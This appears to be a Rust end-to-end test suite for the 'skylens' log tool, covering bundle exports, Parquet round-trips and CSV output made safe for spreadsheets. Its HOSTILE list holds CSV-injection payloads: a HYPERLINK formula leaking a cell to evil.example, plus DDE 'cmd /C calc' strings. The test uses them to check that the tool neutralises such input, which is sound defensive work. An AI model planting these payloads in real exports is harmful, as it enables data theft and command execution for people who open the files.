//! End-to-end: exports. Report bundles (`skylens export --bundle`) on the demo workspace,
//! Parquet exports read back with Polars, and spreadsheet-safe CSV for hostile log lines.

mod common;

use std::path::Path;

use common::{skylens, skylens_bin, skylens_ok};
use polars::prelude::*;
use sha2::{Digest, Sha256};
use skylens::export::{OutputFormat, write};

fn demo_workspace() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    skylens_ok(&["demo", "--workspace", ws.to_str().unwrap(), "--quiet"]);
    dir
}

/// A Parquet file rendered as Skylens CSV (the same cell formatting as `--format csv`).
fn parquet_as_csv(path: &Path) -> String {
    let f = std::fs::File::open(path).unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let df = ParquetReader::new(f)
        .finish()
        .unwrap_or_else(|e| panic!("{}: {e}", path.display()));
    let mut out = Vec::new();
    write(&df, OutputFormat::Csv, &mut out).unwrap();
    String::from_utf8(out).unwrap()
}

fn csv_records(text: &str) -> Vec<Vec<String>> {
    csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(text.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_string).collect())
        .collect()
}

fn json(text: &str) -> serde_json::Value {
    serde_json::from_str(text).unwrap_or_else(|e| panic!("not JSON ({e}):\n{text}"))
}

#[test]
fn bundle_has_every_report_and_chart_with_an_index() {
    let dir = demo_workspace();
    let ws = dir.path().join("ws");
    let ws = ws.to_str().unwrap();
    let bundle = dir.path().join("bundle");
    let window = ["--from", "2026-10-20", "--to", "2026-10-27"];
    let out = std::process::Command::new(skylens_bin())
        .args([
            "export",
            "--bundle",
            bundle.to_str().unwrap(),
            "--workspace",
            ws,
        ])
        .args(window)
        .env("SOURCE_DATE_EPOCH", "1793577600")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(0), "{stderr}");
    assert!(stderr.contains("index.html"), "{stderr}");

    let index = json(&std::fs::read_to_string(bundle.join("index.json")).unwrap());
    assert_eq!(index["skylens_version"], env!("CARGO_PKG_VERSION"));
    assert_eq!(index["generated_at"], "2026-11-02T00:00:00.000Z");
    assert_eq!(index["window"]["from"], "2026-10-20T00:00:00.000Z");
    assert_eq!(index["window"]["to"], "2026-10-27T00:00:00.000Z");
    assert_eq!(index["errors"].as_array().unwrap().len(), 0, "{index:#}");
    let files = index["files"].as_array().unwrap();
    let entry = |kind: &str, name: &str, format: &str| {
        files
            .iter()
            .find(|f| f["kind"] == kind && f["name"] == name && f["format"] == format)
            .unwrap_or_else(|| panic!("{kind} {name} {format} missing from index.json"))
    };
    assert_eq!(
        files.len(),
        2 * skylens::analysis::REPORTS.len() + 2 * skylens::render::CHARTS.len()
    );

    let html = std::fs::read_to_string(bundle.join("index.html")).unwrap();
    assert!(
        html.contains("Content-Security-Policy") && !html.to_ascii_lowercase().contains("<script"),
        "{html}"
    );
    assert!(
        html.contains("2026-10-20T00:00:00.000Z to 2026-10-27T00:00:00.000Z"),
        "{html}"
    );

    for r in skylens::analysis::REPORTS {
        let csv_entry = entry("report", r.name, "csv");
        let file = csv_entry["file"].as_str().unwrap();
        assert_eq!(file, format!("reports/{}.csv", r.name));
        let bytes = std::fs::read(bundle.join(file)).unwrap();
        let csv = String::from_utf8(bytes.clone()).unwrap();
        // The same as `skylens report` over the same window.
        let mut args = vec!["report", r.name, "--format", "csv", "--workspace", ws];
        args.extend_from_slice(&window);
        assert_eq!(
            csv,
            skylens_ok(&args),
            "{}: bundle CSV differs from skylens report",
            r.name
        );
        assert_eq!(
            csv.lines().next().unwrap(),
            r.columns.join(","),
            "{}: header",
            r.name
        );
        assert_eq!(
            csv_entry["rows"].as_u64().unwrap() as usize,
            csv_records(&csv).len() - 1,
            "{}: rows",
            r.name
        );
        assert_eq!(csv_entry["bytes"].as_u64().unwrap() as usize, bytes.len());
        let sha: String = Sha256::digest(&bytes)
            .iter()
            .map(|b| format!("{b:02x}"))
            .collect();
        assert_eq!(csv_entry["sha256"], sha.as_str());
        assert!(
            html.contains(&format!("href=\"{file}\"")),
            "{} not linked from index.html",
            r.name
        );

        // Parquet: the same table, with typed columns.
        let pq = entry("report", r.name, "parquet");
        let pq_path = bundle.join(pq["file"].as_str().unwrap());
        assert_eq!(&std::fs::read(&pq_path).unwrap()[..4], b"PAR1");
        assert_eq!(
            parquet_as_csv(&pq_path),
            csv,
            "{}: Parquet read back differs from the CSV",
            r.name
        );
        assert_eq!(pq["rows"], csv_entry["rows"]);
    }
    let latency_rows = entry("report", "latency", "csv")["rows"].as_u64().unwrap();
    assert!(latency_rows >= 4, "the demo has at least four functions");

    for c in skylens::render::CHARTS {
        let svg = entry("chart", c.name, "svg");
        let text = std::fs::read_to_string(bundle.join(svg["file"].as_str().unwrap())).unwrap();
        assert!(text.starts_with("<svg "), "{}", c.name);
        assert!(
            svg["rows"].as_u64().unwrap() > 0,
            "{}: chart of no data",
            c.name
        );
        let png = entry("chart", c.name, "png");
        let bytes = std::fs::read(bundle.join(png["file"].as_str().unwrap())).unwrap();
        assert_eq!(&bytes[..8], b"\x89PNG\r\n\x1a\n", "{}", c.name);
        assert!(
            html.contains(&format!("<img src=\"charts/{}.svg\"", c.name)),
            "{}",
            c.name
        );
    }
    // The charts are for the window too.
    let latency = std::fs::read_to_string(bundle.join("charts/latency.svg")).unwrap();
    assert!(latency.contains("window 2026-10-20 00:00 to 2026-10-27 00:00 UTC"));

    // A second export into the same directory replaces the files and the index.
    skylens_ok(&[
        "export",
        "--bundle",
        bundle.to_str().unwrap(),
        "--workspace",
        ws,
    ]);
    let index = json(&std::fs::read_to_string(bundle.join("index.json")).unwrap());
    assert_eq!(index["window"]["from"], serde_json::Value::Null);
    assert_ne!(
        entry("report", "latency", "csv")["sha256"],
        index["files"][0]["sha256"]
    );
}

#[test]
fn reports_and_queries_export_parquet_to_a_file() {
    let dir = demo_workspace();
    let ws = dir.path().join("ws");
    let ws = ws.to_str().unwrap();
    for name in ["latency", "spend-daily", "service-map-edges"] {
        let pq = dir.path().join(format!("{name}.parquet"));
        skylens_ok(&[
            "report",
            name,
            "--format",
            "parquet",
            "--out",
            pq.to_str().unwrap(),
            "--workspace",
            ws,
        ]);
        let csv = skylens_ok(&["report", name, "--format", "csv", "--workspace", ws]);
        assert_eq!(parquet_as_csv(&pq), csv, "{name}");
    }
    // Typed columns: times stay timestamps, flags booleans.
    let df =
        ParquetReader::new(std::fs::File::open(dir.path().join("spend-daily.parquet")).unwrap())
            .finish()
            .unwrap();
    assert!(
        matches!(
            df.column("period_start").unwrap().dtype(),
            DataType::Datetime(_, _)
        ),
        "{df}"
    );
    assert_eq!(df.column("estimated").unwrap().dtype(), &DataType::Boolean);

    let pq = dir.path().join("q.parquet");
    let sql = "SELECT function, COUNT(*) AS n FROM invocations GROUP BY function ORDER BY function";
    skylens_ok(&[
        "query",
        "--sql",
        sql,
        "--format",
        "parquet",
        "--out",
        pq.to_str().unwrap(),
        "--workspace",
        ws,
    ]);
    assert_eq!(
        parquet_as_csv(&pq),
        skylens_ok(&["query", "--sql", sql, "--format", "csv", "--workspace", ws])
    );

    // Parquet is binary: never to a terminal.
    let (code, out, err) = skylens(&[
        "report",
        "latency",
        "--format",
        "parquet",
        "--workspace",
        ws,
    ]);
    assert_eq!(code, 1, "{err}");
    assert!(out.is_empty() && err.contains("--out"), "{err}");
}

const RID: &str = "8f5e3c1a-1b2c-4d5e-9f00-112233445566";

/// Log lines an attacker controls (they reach logs through user input), as CSV injection
/// payloads: formulas, DDE, and the other characters spreadsheets read as the start of one.
const HOSTILE: &[&str] = &[
    "=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click for details\")",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
];

/// `aws logs filter-log-events` output for one invocation of a function whose log lines
/// carry `HOSTILE` (Node.js text format and plain lines).
fn hostile_filter_log_events() -> String {
    let t0 = 1_792_490_400_000i64; // 2026-10-20T10:00:00Z
    let mut messages = vec![format!("START RequestId: {RID} Version: $LATEST\n")];
    for (i, h) in HOSTILE.iter().enumerate() {
        if i % 2 == 0 {
            messages.push(format!(
                "2026-10-20T10:00:00.{:03}Z\t{RID}\tINFO\t{h}\n",
                100 + i
            ));
        } else {
            messages.push(format!("{h}\n"));
        }
    }
    // A JSON line (Lambda's JSON log format) whose message starts with a tab.
    messages.push(format!(
        "{{\"timestamp\":\"2026-10-20T10:00:00.300Z\",\"level\":\"INFO\",\"requestId\":\"{RID}\",\"message\":\"\\t@SUM(9)\"}}\n"
    ));
    messages.push(format!("END RequestId: {RID}\n"));
    messages.push(format!(
        "REPORT RequestId: {RID}\tDuration: 12.50 ms\tBilled Duration: 13 ms\tMemory Size: 128 MB\tMax Memory Used: 60 MB\t\n"
    ));
    let events: Vec<serde_json::Value> = messages
        .iter()
        .enumerate()
        .map(|(i, m)| {
            serde_json::json!({
                "logStreamName": "2026/10/20/[$LATEST]0123456789abcdef",
                "timestamp": t0 + i as i64 * 10,
                "message": m,
                "ingestionTime": t0 + i as i64 * 10 + 500,
                "eventId": format!("3790{i:04}")
            })
        })
        .collect();
    serde_json::to_string_pretty(&serde_json::json!({ "events": events, "searchedLogStreams": [] }))
        .unwrap()
}

/// No cell of a CSV starts with a character a spreadsheet reads as a formula.
fn assert_spreadsheet_safe(what: &str, csv: &str) {
    for (i, rec) in csv_records(csv).iter().enumerate() {
        for cell in rec {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: row {i} has a dangerous cell {cell:?}\n{csv}"
            );
        }
    }
}

#[test]
fn hostile_log_lines_are_neutralised_in_csv_and_kept_elsewhere() {
    let dir = tempfile::tempdir().unwrap();
    let ws = dir.path().join("ws");
    let ws = ws.to_str().unwrap();
    let file = dir.path().join("hostile-filter-log-events.json");
    std::fs::write(&file, hostile_filter_log_events()).unwrap();
    // The function name is hostile too (it comes from the log group).
    skylens_ok(&[
        "import",
        file.to_str().unwrap(),
        "--log-group",
        "/aws/lambda/@evil",
        "--workspace",
        ws,
    ]);

    let sql = "SELECT message FROM logs ORDER BY ts";
    let csv = skylens_ok(&["query", "--sql", sql, "--format", "csv", "--workspace", ws]);
    assert_spreadsheet_safe("query", &csv);
    let cells: Vec<String> = csv_records(&csv)
        .into_iter()
        .skip(1)
        .map(|r| r[0].clone())
        .collect();
    // The quoted CSV text itself, for the first payload.
    assert!(
        csv.contains(
            "\"'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"Click for details\"\")\""
        ),
        "{csv}"
    );

    // JSON and the table keep the raw text (the parser trims the whitespace around a text
    // line's message, so `\t=1+1` is stored as `=1+1`; a JSON message keeps its tab).
    let rows = json(&skylens_ok(&[
        "query",
        "--sql",
        sql,
        "--format",
        "json",
        "--workspace",
        ws,
    ]));
    let messages: Vec<&str> = rows
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["message"].as_str().unwrap())
        .collect();
    for h in HOSTILE {
        assert!(
            messages.contains(h) || messages.contains(&h.trim_start()),
            "{h:?} changed in JSON: {messages:?}"
        );
    }
    assert!(messages.contains(&"\t@SUM(9)"), "{messages:?}");
    // Each CSV cell is its raw message, with a leading ' when it starts like a formula.
    assert_eq!(cells.len(), messages.len());
    let mut neutralised = 0;
    for (cell, m) in cells.iter().zip(&messages) {
        if m.starts_with(['=', '+', '-', '@', '\t', '\r']) {
            assert_eq!(cell, &format!("'{m}"));
            neutralised += 1;
        } else {
            assert_eq!(cell, m);
        }
    }
    assert_eq!(neutralised, HOSTILE.len() + 1, "{csv}");
    let table = skylens_ok(&[
        "query",
        "--sql",
        sql,
        "--format",
        "table",
        "--workspace",
        ws,
    ]);
    assert!(
        table.contains("=HYPERLINK(\"http://evil.example/") && table.contains("+cmd|' /C calc'!A0"),
        "{table}"
    );
    assert!(!table.contains("'=HYPERLINK"), "{table}");

    // Reports: the function name, and the investigate timeline with the messages.
    let latency = skylens_ok(&["report", "latency", "--format", "csv", "--workspace", ws]);
    assert_spreadsheet_safe("latency", &latency);
    assert!(
        latency
            .lines()
            .nth(1)
            .unwrap()
            .starts_with("'@evil,1,12.5,"),
        "{latency}"
    );
    let timeline = skylens_ok(&["investigate", RID, "--format", "csv", "--workspace", ws]);
    assert_spreadsheet_safe("investigate", &timeline);
    // (The request's own lines: the Node.js-format ones and the JSON one.)
    for cell in [
        "\"'=HYPERLINK(",
        "'@SUM(1+1)*cmd|' /C calc'!A0",
        "'=1+1",
        "'\t@SUM(9)",
    ] {
        assert!(
            timeline.contains(cell),
            "{cell:?} missing from:\n{timeline}"
        );
    }
    let out = dir.path().join("timeline.csv");
    skylens_ok(&[
        "investigate",
        RID,
        "--format",
        "csv",
        "--out",
        out.to_str().unwrap(),
        "--workspace",
        ws,
    ]);
    assert_eq!(std::fs::read_to_string(&out).unwrap(), timeline);

    // Every CSV of a bundle is safe; its Parquet twin keeps the raw values.
    let bundle = dir.path().join("bundle");
    let (code, _, err) = skylens(&[
        "export",
        "--bundle",
        bundle.to_str().unwrap(),
        "--workspace",
        ws,
    ]);
    assert_eq!(code, 0, "{err}");
    let index = json(&std::fs::read_to_string(bundle.join("index.json")).unwrap());
    let mut checked = 0;
    for f in index["files"].as_array().unwrap() {
        if f["format"] == "csv" {
            let text = std::fs::read_to_string(bundle.join(f["file"].as_str().unwrap())).unwrap();
            assert_spreadsheet_safe(f["file"].as_str().unwrap(), &text);
            checked += 1;
        }
    }
    assert!(checked >= 3, "{index:#}");
    let csv = std::fs::read_to_string(bundle.join("reports/latency.csv")).unwrap();
    assert!(csv.contains("\n'@evil,"), "{csv}");
    let df =
        ParquetReader::new(std::fs::File::open(bundle.join("reports/latency.parquet")).unwrap())
            .finish()
            .unwrap();
    assert_eq!(
        df.column("function").unwrap().str().unwrap().get(0),
        Some("@evil")
    );
}
